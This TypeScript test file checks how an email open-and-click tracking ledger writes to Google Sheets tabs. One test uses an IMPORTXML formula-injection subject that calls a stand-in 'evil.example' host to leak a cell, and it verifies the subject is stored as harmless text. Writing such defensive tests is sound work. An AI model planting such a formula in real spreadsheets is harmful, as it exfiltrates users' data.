import { ask, batchOf, ledgerOnSheets, news, TAB, withThree } from '../../support/ledgerOnSheets';
import { aClick, anOpen, aReport, hitOf, messageId, reportOf, SENT_AT } from '../../support/tracked';

const OPEN = hitOf(anOpen());
const CLICK = [hitOf(aClick()), reportOf(aReport({ pressed: true }))];

describe('the tracking Sheet, written', () => {
  it('says in words how each message stands', () => {
    const { open, seen } = ledgerOnSheets();
    open().write(batchOf(1, news('a', { more: [OPEN, ...CLICK] }), news('b')));
    expect(seen(TAB.messages)).toEqual([
      [
        'Sent',
        'Subject',
        'To',
        'Status',
        'Opens (at least)',
        'First opened',
        'Last opened',
        'Clicks',
        'First click',
        'Sender',
      ],
      [
        '2 Nov 2026 10:05',
        'Offer a',
        'rita@example.org',
        '✓✓ clicked',
        '1',
        '2 Nov 2026 11:05',
        '2 Nov 2026 11:05',
        '1',
        '2 Nov 2026 12:05',
        'sam@example.com',
      ],
      ['2 Nov 2026 10:05', 'Offer b', 'rita@example.org', '✓ sent', '0', '', '', '0', '', 'sam@example.com'],
    ]);
  });

  it('says of each event what, who and why', () => {
    const { open, seen } = ledgerOnSheets();
    open().write(batchOf(1, news('a', { more: [OPEN, ...CLICK] })));
    expect(seen(TAB.events).slice(1)).toEqual([
      [
        '2 Nov 2026 11:05',
        'Offer a',
        'rita@example.org',
        'opened',
        'a person',
        'Loaded 1 h after sending, when programs seldom do.',
        '',
        '',
        '1',
      ],
      [
        '2 Nov 2026 12:05',
        'Offer a',
        'rita@example.org',
        'clicked',
        'a person, verified',
        'The link was pressed on our page: the surest sign of a person.',
        'https://example.org/offer',
        'computer',
        '1',
      ],
    ]);
  });

  it('keeps a subject that looks like a formula as text, whole and harmless', () => {
    const { open, seen, api, id } = ledgerOnSheets();
    const subject = '=IMPORTXML("https://evil.example/?"&B1;"//a")';
    open().write(batchOf(1, news('a', { subject })));
    expect(seen(TAB.messages)[1]?.[1]).toBe(subject);
    const { sheets = [] } = api.get(id, { fields: 'sheets(data(rowData(values(userEnteredValue))))' });
    expect(JSON.stringify(sheets)).not.toContain('formulaValue');
  });

  it('counts on Overview and says on Health when it was written', () => {
    const { open, seen } = withThree();
    const ledger = open();
    const [a, b] = ledger.read([ask('a', 1), ask('b', 2)]);
    ledger.write(batchOf(2, news('a', { before: a!, more: [OPEN] }), news('b', { before: b!, more: CLICK })));
    expect(
      seen(TAB.overview)
        .slice(1)
        .map(([word, value]) => [word, value]),
    ).toEqual([
      ['Messages followed', '3'],
      ['Opened', '2'],
      ['Link clicked', '1'],
      ['Waiting', '1'],
      ['Last news', '3 Nov 2026 10:05'],
    ]);
    expect(
      seen(TAB.health)
        .slice(1)
        .map(([word, value]) => [word, value]),
    ).toEqual([
      ['Last written', '3 Nov 2026 10:05'],
      ['Times written', '2'],
      ['Messages', '3'],
      ['Events', '3'],
    ]);
  });

  it('tells in which rows the messages stand', () => {
    const ledger = ledgerOnSheets().open();
    expect(ledger.write(batchOf(1, news('a'), news('b')))).toEqual({
      kind: 'written',
      rows: { [messageId('a')]: 1, [messageId('b')]: 2 },
    });
    const [a] = ledger.read([ask('a', 1)]);
    expect(ledger.write(batchOf(2, news('c'), news('a', { before: a!, more: [OPEN] })))).toEqual({
      kind: 'written',
      rows: { [messageId('a')]: 1, [messageId('c')]: 3 },
    });
  });

  it('shows times in its own time zone, also after the owner changed that', () => {
    const { open, api, id, seen } = ledgerOnSheets({ timeZone: 'America/New_York' });
    open().write(batchOf(1, news('a')));
    api.batchUpdate(
      {
        requests: [
          { updateSpreadsheetProperties: { properties: { timeZone: 'Asia/Tokyo' }, fields: 'timeZone' } },
        ],
      },
      id,
    );
    open().write(batchOf(2, news('b')));
    expect(
      seen(TAB.messages)
        .slice(1)
        .map(([time]) => time),
    ).toEqual(['2 Nov 2026 04:05', '2 Nov 2026 18:05']);
  });

  it('says of a message not seen among sent mail that it is not sent yet', () => {
    const { open, seen } = ledgerOnSheets();
    const { row } = news('a');
    open().write({
      number: 1,
      messages: [{ ...row, state: { ...row.state, sent: null } }],
      events: [],
      at: SENT_AT,
    });
    expect(seen(TAB.messages)[1]?.slice(0, 4)).toEqual(['', '', '', 'not sent yet']);
  });
});
